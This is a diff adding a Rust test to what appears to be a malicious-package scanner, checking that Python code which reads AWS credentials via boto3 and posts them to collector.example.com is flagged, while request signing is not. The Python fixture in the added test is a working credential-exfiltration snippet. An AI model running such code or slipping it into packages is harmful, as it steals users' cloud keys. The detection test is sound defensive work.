@@ -1532,3 +1532,14 @@ fn flows_a_program_that_is_no_build_tool_run_at_install_is_suspicious() {
     let (v, why) = verdict_of(&[("demo-1.0/demo/ui.py", pkg)]);
     assert_eq!(v, crate::Verdict::Clean, "{why:?}");
 }
+
+#[test]
+fn flows_sdk_credentials_put_into_a_request_body_are_malicious() {
+    let thief = "import boto3, requests\ndef test():\n    cd = boto3.Session().get_credentials()\n    data = {'k': cd.access_key, 's': cd.secret_key}\n    requests.post('https://collector.example.com/zz', json=data, timeout=4)\ntest()\n";
+    let (v, why) = verdict_of(&[("demo-1.0/demo/connection.py", thief)]);
+    assert_eq!(v, crate::Verdict::Malicious, "{why:?}");
+    // Signing a request with them is what an SDK does.
+    let signer = "import boto3, requests\ndef call(url, body):\n    cd = boto3.Session().get_credentials()\n    headers = sign(cd.access_key, cd.secret_key, body)\n    return requests.post(url, data=body, headers=headers)\n";
+    let (v, why) = verdict_of(&[("demo-1.0/demo/client.py", signer)]);
+    assert_eq!(v, crate::Verdict::Clean, "{why:?}");
+}
